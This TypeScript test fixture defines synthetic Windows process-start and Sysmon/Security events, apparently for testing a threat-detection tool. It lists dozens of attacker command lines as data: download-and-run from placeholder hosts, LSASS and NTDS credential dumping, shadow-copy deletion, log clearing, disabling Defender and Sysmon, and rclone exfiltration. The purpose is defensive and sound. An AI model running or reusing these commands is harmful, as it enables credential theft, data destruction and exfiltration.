import type { EventRecord } from "../../../src/event-fields/event-record.ts";
import type { Needle } from "./needle.ts";
import { rowsOf } from "./needle.ts";

/** parent ;; program ;; command line ;; mark; every second one as event 4688, the others as Sysmon 1 */
const STARTS = String.raw`
C:\Windows\System32\inetsrv\w3wp.exe ;; C:\Windows\System32\cmd.exe ;; "cmd.exe" /c echo %username% ;; echo %username%
C:\Program Files\Microsoft Office\Office16\WINWORD.EXE ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.6/a')" ;; 203.0.113.6/a
C:\Windows\explorer.exe ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA ;; -enc SQBFAFgA
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\rundll32.exe ;; rundll32.exe C:\windows\system32\comsvcs.dll, MiniDump 688 C:\Users\Public\l.dmp full ;; MiniDump
C:\Windows\System32\cmd.exe ;; C:\Users\Public\procdump64.exe ;; procdump64.exe -accepteula -ma lsass.exe out.dmp ;; -ma lsass.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg save HKLM\SAM C:\temp\s.hiv ;; HKLM\SAM
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\vssadmin.exe ;; vssadmin delete shadows /all /quiet ;; delete shadows
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\bcdedit.exe ;; bcdedit /set {default} recoveryenabled No ;; recoveryenabled
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wevtutil.exe ;; wevtutil cl Security ;; cl Security
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\net.exe ;; net user svc_sync P4ss! /add ;; svc_sync
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\net1.exe ;; net1 localgroup administrators svc_sync2 /add ;; svc_sync2
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\schtasks.exe ;; schtasks /create /tn upd /tr C:\Users\Public\u.exe /sc minute ;; /tn upd
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\sc.exe ;; sc \\FS02 create rsvc binPath= C:\temp\r.exe ;; rsvc
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\certutil.exe ;; certutil -urlcache -split -f http://198.51.100.6/b.exe b.exe ;; 198.51.100.6/b.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\bitsadmin.exe ;; bitsadmin /transfer j http://198.51.100.7/c.exe C:\temp\c.exe ;; 198.51.100.7/c.exe
C:\Windows\explorer.exe ;; C:\Windows\System32\mshta.exe ;; mshta.exe http://203.0.113.9/x.hta ;; x.hta
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\regsvr32.exe ;; regsvr32 /s /n /u /i:http://203.0.113.10/f.sct scrobj.dll ;; f.sct
C:\Windows\System32\cmd.exe ;; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe ;; InstallUtil.exe /logfile= /U C:\temp\p.dll ;; C:\temp\p.dll
C:\Windows\System32\cmd.exe ;; C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe ;; MSBuild.exe C:\Users\Public\b.xml ;; b.xml
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wbem\WMIC.exe ;; wmic /node:FS02 process call create "cmd /c calc" ;; /node:FS02
C:\Windows\System32\wbem\WmiPrvSE.exe ;; C:\Windows\System32\cmd.exe ;; cmd.exe /Q /c dir \\127.0.0.1\ADMIN$\__16 ;; ADMIN$\__16
C:\Windows\System32\services.exe ;; C:\Windows\PSEXESVC.exe ;; C:\Windows\PSEXESVC.exe ;; PSEXESVC
C:\Windows\System32\wsmprovhost.exe ;; C:\Windows\System32\HOSTNAME.EXE ;; hostname ;; wsmprovhost
C:\Windows\System32\fodhelper.exe ;; C:\Windows\System32\cmd.exe ;; cmd.exe /k start calc2 ;; start calc2
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\netsh.exe ;; netsh interface portproxy add v4tov4 listenport=8001 connectaddress=10.0.9.9 ;; portproxy
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\netsh.exe ;; netsh advfirewall set allprofiles state off ;; allprofiles
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\nltest.exe ;; nltest /domain_trusts /all_trusts ;; domain_trusts
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\whoami.exe ;; whoami /priv ;; whoami.exe /priv
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\cmdkey.exe ;; cmdkey /list ;; /list
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\findstr.exe ;; findstr /si cpassword \\corp\sysvol\*.xml ;; cpassword
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\ntdsutil.exe ;; ntdsutil "ac i ntds" "ifm" "create full c:\temp\n" q q ;; create full
C:\Windows\System32\cmd.exe ;; C:\Users\Public\rclone.exe ;; rclone.exe copy D:\Finance mega:f --multi-thread-streams 8 ;; mega:f
C:\Windows\System32\cmd.exe ;; C:\ProgramData\7z.exe ;; 7z.exe a -pQwe1 C:\ProgramData\d.7z D:\HR ;; d.7z
C:\Windows\System32\svchost.exe ;; C:\Windows\Temp\svchost.exe ;; C:\Windows\Temp\svchost.exe ;; \windows\temp\svchost.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\auditpol.exe ;; auditpol /set /category:* /success:disable ;; success:disable
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; powershell Set-MpPreference -DisableRealtimeMonitoring $true ;; DisableRealtimeMonitoring
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\reg.exe ;; reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\Users\Public\u2.exe ;; u2.exe
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\fltMC.exe ;; fltmc unload SysmonDrv ;; unload SysmonDrv
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\cscript.exe ;; cscript //b C:\Users\jdoe\AppData\Local\Temp\inv.vbs ;; inv.vbs
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\esentutl.exe ;; esentutl /y /vss C:\Windows\NTDS\ntds.dit /d C:\temp\n.dit ;; n.dit
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\forfiles.exe ;; forfiles /p c:\windows /m notepad.exe /c C:\temp\q.exe ;; q.exe
C:\Windows\System32\cmd.exe ;; C:\Tools\Rubeus.exe ;; Rubeus.exe kerberoast /outfile:h.txt ;; kerberoast
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\quser.exe ;; quser /server:DC01 ;; /server:DC01
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\wbadmin.exe ;; wbadmin delete catalog -quiet ;; delete catalog
C:\Windows\System32\cmd.exe ;; C:\Windows\System32\cipher.exe ;; cipher /w:D:\ ;; cipher.exe /w:D
`;

/** event id ;; program ;; fields as JSON ;; mark */
const EVENTS = String.raw`
10 ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; {"TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1010"} ;; 0x1010
10 ;; C:\Users\Public\m.exe ;; {"TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1410"} ;; 0x1410
10 ;; C:\Windows\System32\rundll32.exe ;; {"TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1FFFFF"} ;; 0x1FFFFF
8 ;; C:\Users\Public\inj.exe ;; {"TargetImage":"C:\\Windows\\explorer.exe"} ;; inj.exe
8 ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; {"TargetImage":"C:\\Windows\\System32\\notepad.exe"} ;; remote thread
7 ;; C:\Windows\System32\rundll32.exe ;; {"ImageLoaded":"C:\\Users\\Public\\ev.dll"} ;; ev.dll
7 ;; C:\Windows\System32\notepad.exe ;; {"ImageLoaded":"C:\\Windows\\assembly\\System.Management.Automation.ni.dll"} ;; Management.Automation
6 ;; System ;; {"ImageLoaded":"C:\\Windows\\Temp\\rtcore64.sys"} ;; rtcore64
11 ;; C:\Windows\System32\inetsrv\w3wp.exe ;; {"TargetFilename":"C:\\inetpub\\wwwroot\\aspnet_client\\sh.aspx"} ;; sh.aspx
11 ;; C:\Windows\System32\cmd.exe ;; {"TargetFilename":"C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk"} ;; u.lnk
11 ;; C:\Windows\System32\certutil.exe ;; {"TargetFilename":"C:\\Users\\Public\\b2.exe"} ;; b2.exe
11 ;; C:\Windows\System32\Taskmgr.exe ;; {"TargetFilename":"C:\\Users\\jdoe\\AppData\\Local\\Temp\\lsass.DMP"} ;; lsass.DMP
11 ;; C:\Windows\explorer.exe ;; {"TargetFilename":"C:\\Shares\\HR\\plan.docx.locked"} ;; plan.docx.locked
11 ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; {"TargetFilename":"C:\\Windows\\System32\\wbem\\drv.mof"} ;; drv.mof
13 ;; C:\Windows\System32\reg.exe ;; {"TargetObject":"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\svc","Details":"C:\\ProgramData\\s.exe"} ;; CurrentVersion\Run\svc
13 ;; C:\Windows\regedit.exe ;; {"TargetObject":"HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential","Details":"DWORD (0x00000001)"} ;; UseLogonCredential
13 ;; C:\Windows\System32\reg.exe ;; {"TargetObject":"HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\\DelegateExecute","Details":"(Empty)"} ;; DelegateExecute
13 ;; C:\Windows\System32\reg.exe ;; {"TargetObject":"HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger","Details":"cmd.exe"} ;; sethc.exe
13 ;; C:\Windows\System32\services.exe ;; {"TargetObject":"HKLM\\System\\CurrentControlSet\\Services\\rsvc2\\ImagePath","Details":"C:\\Windows\\Temp\\r.exe"} ;; rsvc2
13 ;; C:\Windows\System32\svchost.exe ;; {"TargetObject":"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections","Details":"DWORD (0x00000000)"} ;; fDenyTSConnections
12 ;; C:\Windows\System32\lsass.exe ;; {"TargetObject":"HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\svc3"} ;; Names\svc3
17 ;; C:\Users\Public\b.exe ;; {"PipeName":"\\msagent_3a"} ;; msagent
18 ;; C:\Windows\System32\spoolsv.exe ;; {"PipeName":"\\efsrpc"} ;; efsrpc
22 ;; C:\Windows\System32\rundll32.exe ;; {"QueryName":"c2.badhost.example"} ;; c2.badhost
22 ;; C:\Windows\System32\svchost.exe ;; {"QueryName":"aGVsbG8gd29ybGQgdGhpcyBpcyBhIHR1bm5lbA.t.evil.example"} ;; evil.example
3 ;; C:\Windows\System32\rundll32.exe ;; {"dst_ip":"203.0.113.200","dst_port":"443"} ;; 203.0.113.200
3 ;; C:\Users\Public\b3.exe ;; {"dst_ip":"198.51.100.200","dst_port":"8080"} ;; 198.51.100.200
3 ;; C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe ;; {"dst_ip":"10.0.5.5","dst_port":"5985"} ;; 10.0.5.5:5985
19 ;;  ;; {"Name":"upd","Query":"SELECT * FROM __InstanceModificationEvent"} ;; __InstanceModificationEvent
20 ;;  ;; {"Name":"upc","Destination":"powershell -enc AAAA"} ;; upc
23 ;; C:\Windows\System32\cmd.exe ;; {"TargetFilename":"C:\\Windows\\Prefetch\\MIMIKATZ.EXE-1A2B3C4D.pf"} ;; MIMIKATZ
25 ;; C:\Users\Public\h.exe ;; {"Type":"Image is replaced"} ;; process tampering
1102 ;;  ;; {} ;; audit log cleared
104 ;;  ;; {"Channel":"System"} ;; event log cleared
4719 ;;  ;; {"SubcategoryGuid":"{0cce922b-69ae-11d9-bed3-505054503030}"} ;; audit policy changed
4720 ;;  ;; {"TargetUserName":"svc_new"} ;; svc_new
4732 ;;  ;; {"GroupName":"Administrators","MemberSid":"S-1-5-21-1-2-3-1999"} ;; Administrators
4724 ;;  ;; {"TargetUserName":"krbadmin"} ;; krbadmin
4698 ;;  ;; {"TaskName":"\\Updater9","TaskContent":"<Exec><Command>powershell.exe</Command></Exec>"} ;; Updater9
4697 ;;  ;; {"ServiceName":"btobto","ServiceFileName":"%COMSPEC% /Q /c echo cd"} ;; btobto
7045 ;;  ;; {"ServiceName":"qwertyui","ImagePath":"C:\\Windows\\qwertyui.exe"} ;; qwertyui
4769 ;;  ;; {"ServiceName":"sqlsvc","TicketEncryptionType":"0x17","TicketOptions":"0x40810000"} ;; sqlsvc
4662 ;;  ;; {"ObjectName":"DC=corp","Properties":"{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"} ;; DC=corp
4624 ;;  ;; {"TargetUserName":"admin9","LogonType":"9"} ;; admin9
4624 ;;  ;; {"TargetUserName":"jdoe9","LogonType":"10","src_ip":"203.0.113.201"} ;; jdoe9
5145 ;;  ;; {"ShareName":"\\\\*\\ADMIN$","RelativeTargetName":"PSEXESVC.EXE"} ;; PSEXESVC.EXE
5145 ;;  ;; {"ShareName":"\\\\*\\IPC$","RelativeTargetName":"svcctl"} ;; svcctl
4656 ;; C:\Users\Public\m2.exe ;; {"ObjectName":"\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe","AccessMask":"0x1f3fff"} ;; m2.exe
4663 ;; C:\Windows\System32\reg.exe ;; {"ObjectName":"\\REGISTRY\\MACHINE\\SECURITY\\Policy\\Secrets","AccessMask":"0x1"} ;; Policy\Secrets
4104 ;;  ;; {"ScriptBlockText":"function Invoke-Mimikatz { [CmdletBinding()] }"} ;; Invoke-Mimikatz
4104 ;;  ;; {"ScriptBlockText":"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"} ;; AmsiUtils
4104 ;;  ;; {"ScriptBlockText":"Get-DomainUser -SPN | Get-DomainSPNTicket"} ;; Get-DomainUser
4104 ;;  ;; {"ScriptBlockText":"Invoke-Command -ComputerName FS02 -ScriptBlock { hostname }"} ;; ComputerName FS02
4103 ;;  ;; {"Payload":"CommandInvocation(Compress-Archive): value=D:\\Finance"} ;; Compress-Archive
`;

const SYSMON: EventRecord = {
  provider: "Microsoft-Windows-Sysmon",
  channel: "Microsoft-Windows-Sysmon/Operational",
};
const SECURITY: EventRecord = {
  provider: "Microsoft-Windows-Security-Auditing",
  channel: "Security",
};

export const WINDOWS_NEEDLES: readonly Needle[] = [
  ...rowsOf(STARTS).map(([parent = "", exe = "", line = "", mark = ""], index) =>
    needle(mark, {
      win_event_id: index % 2 === 0 ? 4688 : 1,
      ...(index % 2 === 0 ? SECURITY : SYSMON),
      exe,
      arguments: line,
      ParentImage: parent,
    }),
  ),
  ...rowsOf(EVENTS).map(([id = "", exe = "", fields = "{}", mark = ""]) =>
    needle(mark, {
      win_event_id: Number(id),
      ...channelOf(Number(id)),
      ...(exe === "" ? {} : { exe }),
      ...(JSON.parse(fields) as EventRecord),
    }),
  ),
];

function channelOf(id: number): EventRecord {
  if (id < 100) return SYSMON;
  if (id === 4103 || id === 4104) {
    return {
      provider: "Microsoft-Windows-PowerShell",
      channel: "Microsoft-Windows-PowerShell/Operational",
    };
  }
  return id === 7045 ? { provider: "Service Control Manager", channel: "System" } : SECURITY;
}

function needle(mark: string, fields: EventRecord): Needle {
  return { platform: "windows", mark, fields: { event_type: "winsec", ...fields } };
}
